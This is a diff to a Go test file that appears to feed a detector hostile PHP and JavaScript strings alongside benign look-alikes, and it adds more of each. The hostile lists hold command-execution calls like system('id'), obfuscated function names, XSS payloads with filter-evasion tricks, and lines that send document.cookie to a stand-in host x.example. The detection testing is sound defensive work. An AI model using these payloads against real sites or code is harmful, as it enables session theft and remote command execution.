@@ -36,7 +36,7 @@ var hostilePHP = []string{
 	"system('id')", "system( \"id\" );", "passthru('ls -la')", "shell_exec(`id`)", "popen('cat /etc/hosts','r')", "exec('whoami')", "exec(\"curl http://x.example/a\")", "exec($cmd)", "eval($_POST[1])",
 	"eval('phpinfo();')", "assert('phpinfo()')", "eval(base64_decode('YQ=='))", "assert(str_rot13('x'))", "phpinfo()", "print(phpinfo())", "\"].phpinfo().exit().$a[\"", "call_user_func('system','id')", "array_map('assert',$a)",
 	"usort($a,'x')", "create_function('','system(1);')", "base64_decode('YQ==')", "file_get_contents('/etc/hosts')", "fopen('http://x.example/a','r')", "include('../../x')", "readfile('/etc/hosts')", "@unlink('a.php')",
-	"'system'('id')", "\"system\"('id')", "('sys'.'tem')('id')", "(system)('id')", "['system'][0]('id')", "(string)\"sys\".\"tem\"('id')", "$a('id')", "$a[0]($b)", "${a}($b)", "$$a($b)", "$a->b('c')", "A::$b()", "$f='x';$f('y z')", "define('z','sys'.'tem');(z)('uname')", "(z)[0]('id')",
+	"'system'('id')", "\"system\"('id')", "('sys'.'tem')('id')", "(system)('id')", "['system'][0]('id')", "(string)\"sys\".\"tem\"('id')", "$a('id')", "$a[0]($b)", "${a}($b)", "$$a($b)", "$a->b('c')", "A::$b()", "$f='x';$f('y z')", "define('z','sys'.'tem');(z)('uname')", "(z)[0]('id')", "$f = fopen('a.txt','a+');", "exec ('sel' + 'ect 1')", "system('i'.'d')",
 	"system/**/('id')", "system # a\n('id')", "\\system('id')", "exec(print(`id`))", "${exec(print(`echo a`))}", "0).system('id').(", "os.popen('id')", "x.getRuntime().exec('id')", "chr(105).chr(100)", "chr(1)||chr(2)",
 	"gzinflate/*a*/()", "popen(chr(105))", "proc_open($a,$b)", "fwrite($f,$c)", "preg_replace('/a/e',$b,'')", "getcwd($a)", "php_uname()", "get_defined_vars()", "move_uploaded_file('a','b')", "${''.getClass()}", "$ {a}",
 }
@@ -69,7 +69,8 @@ var hostileScripts = []string{
 	"';alert(1)//", "'-alert(1)-'", "\"-alert`1`-\"", "';fetch(u)//", "'+open(u)+'", "';document.write(a)//", "'-import(u)-'", "fetch('//x.example/'+document.cookie)", "fetch('//x.example')", "import('//x.example/a.js')",
 	"new Image().src='//x.example/'+document.cookie", "location='//x.example/?'+document.cookie", "x=`//x.example/${document.cookie}`", "document/**/.cookie", "throw document.cookie", "onerror=alert;throw 1", "{onerror=eval}throw'=x'",
 	"window.onerror=alert", "[].sort.call`${alert}1`", "String.fromCharCode(97,108)", "document.write(1)", "'-document.write`a`-'", "\" onfocus=x() autofocus y=\"", "' onmouseover=a[b](c) '", "onload=x=>a.b('//x.example')", "<x onxxx=1",
-	"{{constructor.constructor('x()')()}}", "atob('YQ==')", "<svg/onload=x()>", "javascript:x()", "<script>x</script>", "data:text/html,<script>x</script>", "<a xmlns=\"b\" xsi:schemaLocation=\"b http://x.example/a.xsd\">c</a>",
+	"{{constructor.constructor('x()')()}}", "atob('YQ==')", "<svg/onload=x()>", "javascript:x()", "<style>*{x:\uff45\uff58\uff50\uff52\uff45\uff53\uff53\uff49\uff4f\uff4e(a(1))}</style>", "<b style=\"a:expr/*b*/ession(c)\">", "<\u0131frame srcdoc=a>", "<\u017fcript>a", "<div dataformatas=html>",
+	"<?xml version='1.0' encoding='utf-7'?>", "<b><?xml version='1.0'?>", "alert.call(null,1)", "Reflect.apply(window.alert,null,[1])", "import('example.com')", "<script>x</script>", "data:text/html,<script>x</script>", "<a xmlns=\"b\" xsi:schemaLocation=\"b http://x.example/a.xsd\">c</a>",
 }
 
 // honestScripts are programs that people show, and sentences about them.
@@ -81,7 +82,8 @@ var honestScripts = []string{
 	"if (location.hash) { scroll() }", "x.innerHTML = html", "localStorage.getItem('a')", "app.on('exit', function (code) { stop() })", "once=true", "onChange={(e) => set(e)}", "const onDone = start('a')", "x.onload = init",
 	"rl.prompt();", "print(a)", "print(`usage`)", "rl.question('a', b)", "decodeURIComponent(a)", "String.fromCharCode(code)", "console.log('a')", "document.write('a')", "xhr.open('GET', url)",
 	"navigator.sendBeacon(url, data)", "a: [alert, warning]", "the eval function", "`.call` and `.apply`", "throw new Error('a')", "var desc = Object.getOwnPropertyDescriptor(m, k);", "<project xmlns=\"a\" xsi:schemaLocation=\"a b.xsd\"><id>c</id></project>",
-	"text-align:center;on=1", "conference=a(b)", "season=b(c)", "https://example.com/?once=1&online=2", "price on=off", "evaluate(ast)", "'a', fetch(b)", "['x', import(y)]",
+	"text-align:center;on=1", "conference=a(b)", "season=b(c)", "https://example.com/?once=1&online=2", "price on=off", "<?xml version=\"1.0\" encoding=\"UTF-8\"?><a>b</a>", "read only property of object '#<Object>'", "<iframe>", "<a onclick=\"\">b</a>", "e.illegal_await_expression(node)", "function helperExpression(node) { }",
+	"npm run test:javascript:no-jest && npm test", "javascript:(void)", "onmessage = (event) => { run(event) }", "const a = expression(b)", "evaluate(ast)", "'a', fetch(b)", "['x', import(y)]",
 }
 
 func TestScriptsCountWhateverStandsAroundThem(t *testing.T) {
